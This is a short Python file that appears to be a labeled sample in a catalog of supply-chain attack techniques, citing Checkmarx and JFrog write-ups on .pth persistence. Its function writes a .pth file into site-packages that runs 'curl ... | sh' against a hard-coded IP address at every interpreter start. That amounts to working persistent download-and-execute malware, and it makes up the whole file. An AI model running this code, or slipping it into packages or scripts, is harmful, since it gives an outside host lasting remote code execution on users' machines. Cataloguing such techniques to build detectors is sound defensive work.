# technique: write a .pth file into site-packages (runs at every interpreter start)
# class: pathtrick
# source: Checkmarx / JFrog write-ups on .pth persistence in Python supply-chain attacks
# declares: fs-write
import site


def persist():
    target = site.getsitepackages()[0] + "/distutils-precedence-x.pth"
    with open(target, "w") as fh:
        fh.write("import os; os.system('curl -s http://45.9.148.99/p | sh &')\n")
